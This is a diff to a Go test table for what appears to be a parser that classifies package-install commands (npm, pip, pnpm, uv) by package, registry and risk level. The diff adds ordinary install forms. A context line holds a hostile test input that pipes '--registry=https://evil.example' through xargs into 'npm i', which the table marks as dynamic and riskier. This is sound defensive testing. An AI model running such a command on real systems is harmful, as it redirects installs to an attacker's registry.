@@ -50,6 +50,15 @@ var packageCases = []struct {
 	{"pip install requests", []string{"requests pypi.org pip ^0"}},
 	{"pip3 install 'requests>=2.31' \"flask==3.0.0\"", []string{"requests>=2.31 pypi.org pip ^0", "flask==3.0.0 pypi.org pip ^0"}},
 	{"python3 -m pip install -U pip", []string{"pip pypi.org pip ^0"}},
+	// Install forms the table lacked (rev16 H9): npm init/create fetch the
+	// initializer and run it; audit fix and dedupe re-install.
+	{"npm init vite", []string{"vite registry.npmjs.org npm ^0"}},
+	{"npm create vite@latest my-app", []string{"vite@latest registry.npmjs.org npm ^0"}},
+	{"npm init -y", nil},
+	{"npm audit fix", []string{"(package.json) registry.npmjs.org npm ^0"}},
+	{"npm audit", nil},
+	{"pnpm dedupe", []string{"(package.json) registry.npmjs.org pnpm ^0"}},
+	{"uv tool upgrade ruff", []string{"ruff pypi.org uv ^0"}},
 	// xargs appends what it reads: any option, any package (rev16 H1).
 	{"echo --registry=https://evil.example | xargs npm i x", []string{"x <dynamic> npm ^2", "<dynamic> <dynamic> npm ^2"}},
 	{"xargs -I{} npm i {}", []string{"<dynamic> <dynamic> npm ^1"}},
